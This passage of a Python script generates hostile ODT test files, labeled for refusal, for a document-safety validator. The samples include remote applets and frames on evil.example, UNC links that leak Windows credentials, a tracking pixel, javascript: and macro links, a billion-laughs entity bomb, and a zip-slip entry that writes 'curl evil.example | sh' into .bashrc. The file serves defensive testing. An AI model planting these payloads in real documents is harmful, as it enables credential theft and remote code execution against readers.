        '<text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:applet draw:code="Evil.class" '
        'xlink:href="https://evil.example/applets/" xlink:type="simple"/></draw:frame></text:p>',
    )
    return rezip(entries)


@sample(
    "refuse-odt-plugin.odt",
    "refuse",
    "embedded_object",
    "A browser plug-in object (draw:plugin): content run by a plug-in, not text.",
)
def odt_plugin():
    entries = pandoc_odt()
    in_text(
        entries,
        '<text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:plugin draw:mime-type='
        '"application/x-shockwave-flash" xlink:href="Objects/x.swf" xlink:type="simple"/>'
        "</draw:frame></text:p>",
    )
    return rezip(entries)


@sample(
    "refuse-odt-linked-section.odt",
    "refuse",
    "external_content",
    "A section linked to a document on a web server (text:section-source): fetched on opening.",
)
def odt_linked_section():
    entries = pandoc_odt()
    in_text(
        entries,
        '<text:section text:name="S2"><text:section-source xlink:type="simple" '
        'xlink:href="https://evil.example/annex.odt" text:filter-name="writer8"/>'
        "<text:p>x</text:p></text:section>",
    )
    return rezip(entries)


@sample(
    "refuse-odt-linked-image.odt",
    "refuse",
    "external_content",
    "A picture linked to an address (tracking pixel) instead of stored in the package.",
)
def odt_linked_image():
    entries = pandoc_odt()
    in_text(
        entries,
        '<text:p><draw:frame svg:width="1cm" svg:height="1cm"><draw:image xlink:type="simple" '
        'xlink:href="https://evil.example/pixel.png?cv=1"/></draw:frame></text:p>',
    )
    return rezip(entries)


@sample(
    "refuse-odt-linked-image-unc.odt",
    "refuse",
    "external_content",
    "A picture linked to a network share: Windows sends credentials to fetch it.",
)
def odt_linked_image_unc():
    entries = pandoc_odt()
    in_text(
        entries,
        '<text:p><draw:frame svg:width="1cm" svg:height="1cm"><draw:image xlink:type="simple" '
        'xlink:href="\\\\evil.example\\s\\p.png"/></draw:frame></text:p>',
    )
    return rezip(entries)


@sample(
    "refuse-odt-floating-frame.odt",
    "refuse",
    "external_content",
    "A floating frame (draw:floating-frame) showing an outside page, fetched on opening.",
)
def odt_floating_frame():
    entries = pandoc_odt()
    in_text(
        entries,
        '<text:p><draw:frame svg:width="5cm" svg:height="5cm"><draw:floating-frame '
        'xlink:type="simple" xlink:href="https://evil.example/frame.html"/></draw:frame></text:p>',
    )
    return rezip(entries)


@sample(
    "refuse-odt-template-on-server.odt",
    "refuse",
    "external_content",
    "meta:template naming a template on a network share: read when the text opens.",
)
def odt_template_server():
    entries = pandoc_odt()
    entries["meta.xml"] = entries["meta.xml"].replace(
        b"</office:meta>",
        b'<meta:template xlink:type="simple" xlink:href="\\\\evil.example\\t\\cv.ott"/>'
        b"</office:meta>",
    )
    return rezip(entries)


@sample(
    "refuse-odt-form-submission.odt",
    "refuse",
    "external_content",
    "A form whose submission address is outside (form:form xlink:href).",
)
def odt_form():
    entries = pandoc_odt()
    form = ODF_NAMESPACES["form"]
    entries["content.xml"] = entries["content.xml"].replace(
        b"<office:text>",
        f'<office:text><office:forms><form:form xmlns:form="{form}" form:name="F" '
        'xlink:href="https://evil.example/collect" form:method="post"/></office:forms>'.encode(),
        1,
    )
    return rezip(entries)


@sample(
    "refuse-odt-javascript-link.odt",
    "refuse",
    "unsafe_link",
    "A hyperlink to 'javascript:...': a script run on click, not a web page.",
)
def odt_javascript_link():
    entries = pandoc_odt()
    in_text(
        entries,
        '<text:p><text:a xlink:type="simple" xlink:href="javascript:alert(1)">x</text:a></text:p>',
    )
    return rezip(entries)


@sample(
    "refuse-odt-macro-link.odt",
    "refuse",
    "unsafe_link",
    "A hyperlink that runs a macro (vnd.sun.star.script:...) when clicked, not a web page.",
)
def odt_macro_link():
    entries = pandoc_odt()
    in_text(
        entries,
        '<text:p><text:a xlink:type="simple" xlink:href="vnd.sun.star.script:Standard.Module1.'
        'Main?language=Basic&amp;location=document">x</text:a></text:p>',
    )
    return rezip(entries)


@sample(
    "refuse-odt-password.odt",
    "refuse",
    "encrypted",
    "Saved with a password: the manifest declares encryption data, content cannot be read.",
)
def odt_password():
    entries = pandoc_odt()
    entries["META-INF/manifest.xml"] = entries["META-INF/manifest.xml"].replace(
        b'manifest:full-path="content.xml" manifest:version="1.2" />',
        b'manifest:full-path="content.xml" manifest:version="1.2"><manifest:encryption-data '
        b'manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA"><manifest:algorithm '
        b'manifest:algorithm-name="Blowfish CFB" manifest:initialisation-vector="AAAA"/>'
        b"</manifest:encryption-data></manifest:file-entry>",
    )
    assert b"encryption-data" in entries["META-INF/manifest.xml"]
    return rezip(entries)


@sample(
    "refuse-odt-entity-bomb.odt",
    "refuse",
    "damaged",
    "'Billion laughs' in content.xml: nested entities that expand to gigabytes, refused on the "
    "DTD.",
)
def odt_entity_bomb():
    entries = pandoc_odt()
    office = ODF_NAMESPACES["office"]
    entries["content.xml"] = (
        BILLION_LAUGHS.replace("<w:document", "<office:document-content")
        .replace(f'xmlns:w="{W}"', f'xmlns:office="{office}"')
        .replace("</w:document>", "</office:document-content>")
        .encode()
    )
    return rezip(entries)


@sample(
    "refuse-odt-wrong-mimetype.odt",
    "refuse",
    "not_odt",
    "A spreadsheet (mimetype opendocument.spreadsheet) renamed .odt: not a text document.",
)
def odt_wrong_mimetype():
    entries = pandoc_odt()
    entries["mimetype"] = b"application/vnd.oasis.opendocument.spreadsheet"
    return rezip(entries)


@sample(
    "refuse-odt-path-traversal.odt",
    "refuse",
    "not_odt",
    "An entry named ../../.bashrc (zip slip): extracting it would write outside the folder.",
)
def odt_path_traversal():
    entries = pandoc_odt()
    entries["../../.bashrc"] = b"curl evil.example | sh\n"
    return rezip(entries)


@sample(
    "refuse-odt-elf-renamed.odt",
    "refuse",
    "executable",
    "A Linux program renamed .odt: the bytes say it is an executable, not a document.",
)
def odt_elf():
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 120


def main() -> None:
    names = [name for name, *_ in SAMPLES]
    assert len(names) == len(set(names)), "two samples share a name"
    for name, _verdict, _code, _reason, build in SAMPLES:
        (HERE / name).write_bytes(build())
    with open(HERE / "MANIFEST.csv", "w", newline="", encoding="utf-8") as manifest:
        writer = csv.writer(manifest, lineterminator="\n")
        writer.writerow(["file", "verdict", "code", "reason"])
        for name, verdict, code, reason, _build in SAMPLES:
            writer.writerow([name, verdict, code, reason])
    total = sum((HERE / name).stat().st_size for name in names)
    print(f"{len(SAMPLES)} files, {total / 1024:.0f} KB")


if __name__ == "__main__":
    main()
